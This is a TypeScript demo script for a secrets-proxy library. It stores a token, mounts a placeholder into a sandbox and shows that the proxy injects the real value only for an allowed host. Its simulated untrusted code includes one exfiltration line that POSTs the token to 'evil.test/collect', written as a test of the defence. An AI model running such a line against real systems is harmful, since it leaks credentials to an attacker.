/**
 * secretgate in one page: store a secret, mount it into a sandbox, run the sandbox's code as a process
 * of its own behind a secretgate proxy, and watch the egress put the real value into its request,
 * only for the allowed host, and scrub it from the reply.
 *
 * Run it: `pnpm demo`
 */
import { Secretgate } from "@secretgate/core"
import { MemorySecretStore } from "@secretgate/memory"
import { type ProxyAuditEvent, SecretgateProxy } from "@secretgate/proxy"
import { execFile } from "node:child_process"
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { dirname, join } from "node:path"
import { promisify } from "node:util"
import { startLocalInternet } from "./support/localUpstream.js"

// 1. A secretgate client for the organization "acme", on the in-memory backend.
const gate = new Secretgate({ layer: MemorySecretStore.layer(), organizationId: "acme" })

// 2. Manage secrets: the API mirrors Daytona's SecretService.
const secret = await gate.secret.create({
  name: "github-token",
  value: "ghp_demo_0ld",
  description: "CI bot token",
  hosts: ["api.allowed.test"]
})
await gate.secret.update(secret.id, { value: "ghp_demo_R3al" }) // rotate: same placeholder, new value
console.log(`created secret ${secret.name}: placeholder ${secret.placeholder}, hosts ${secret.hosts.join(", ")}`)
console.log(`the organization has ${(await gate.secret.list()).length} secret(s); values are never returned`)

// 3. Mount it into a sandbox: the sandbox's environment holds only the placeholder.
const mount = await gate.mount({ GITHUB_TOKEN: "github-token" })
console.log(`sandbox env: GITHUB_TOKEN=${mount.env.GITHUB_TOKEN}`)

// 4. The sandbox's egress: a secretgate proxy (the same egress agent, for any process). The sandbox
//    is registered with it and gets back the environment to start with: its placeholders, the proxy
//    with its own token, and the CA that lets the proxy see its HTTPS requests. (The "internet" here
//    is a local HTTPS server that answers for every host name and echoes what it receives.)
const internet = await startLocalInternet()
const audit: Array<ProxyAuditEvent.ProxyAuditEvent> = []
const proxy = await SecretgateProxy.start({
  upstream: { resolve: { "api.allowed.test": "127.0.0.1", "evil.test": "127.0.0.1" }, ca: internet.ca },
  audit: (event) => audit.push(event)
})
const sandbox = proxy.register({ resolver: await gate.resolver(mount) })

// 5. Untrusted code runs as a process of its own, started with only that environment. (A process
//    is not a security boundary either: isolating the code is the embedder's job — a container, a
//    VM. What secretgate guarantees is what its traffic may carry.)
const untrusted = `
  const reply = await fetch(${JSON.stringify(internet.url("api.allowed.test", "/user"))}, { headers: { authorization: "Bearer " + process.env.GITHUB_TOKEN } })
  const echoed = (await reply.json()).youSent.authorization
  await fetch(${JSON.stringify(internet.url("evil.test", "/collect"))}, { method: "POST", body: "stolen=" + process.env.GITHUB_TOKEN })
  console.log(JSON.stringify({ echoed, env: process.env.GITHUB_TOKEN }))
`
// The local internet's certificates come from a test CA: the child trusts it too, for the host the
// proxy tunnels untouched (evil.test); real hosts have publicly trusted ones. And the child runs
// asynchronously: the proxy lives in this process and must go on answering meanwhile.
const trusted = join(mkdtempSync(join(tmpdir(), "secretgate-demo-")), "ca.pem")
writeFileSync(trusted, `${readFileSync(proxy.bundle.caFile, "utf8")}${internet.ca}`)
const { stdout } = await promisify(execFile)(process.execPath, ["--input-type=module", "-e", untrusted], {
  env: { ...sandbox.env, NODE_EXTRA_CA_CERTS: trusted }
})
rmSync(dirname(trusted), { recursive: true, force: true })
const result = JSON.parse(stdout) as { echoed?: string; env?: string }

// 6. What happened.
const [allowed, evil] = internet.received
console.log("")
console.log(`the sandbox's env           GITHUB_TOKEN=${result.env}`)
console.log(`api.allowed.test received   Authorization: ${allowed?.authorization}   <- the real value`)
console.log(`evil.test received          body: ${evil?.body}   <- only the placeholder`)
console.log(`the sandbox saw the echo    ${String(result.echoed)}   <- scrubbed back`)
console.log("")
console.log("audit:")
for (const event of audit) {
  if (event.type === "substituted" || event.type === "withheld" || event.type === "blocked") {
    console.log(`  ${event.type.padEnd(11)} ${event.secret ?? "(unknown)"} -> ${event.host} (${event.surface}${"reason" in event ? `, ${event.reason}` : ""})`)
  } else if (event.type === "intercepted" || event.type === "tunnelled") {
    console.log(`  ${event.type.padEnd(11)} ${event.host}:${event.port}${event.type === "tunnelled" ? " (no secret may go there: passed through untouched)" : ""}`)
  }
}

const ok = allowed?.authorization === "Bearer ghp_demo_R3al" &&
  evil?.body === `stolen=${mount.env.GITHUB_TOKEN}` &&
  result.echoed === `Bearer ${mount.env.GITHUB_TOKEN}` &&
  result.env === mount.env.GITHUB_TOKEN
console.log(ok ? "\nend to end: OK" : "\nend to end: UNEXPECTED RESULT")

await proxy.close()
await internet.close()
await gate.dispose()
process.exitCode = ok ? 0 : 1
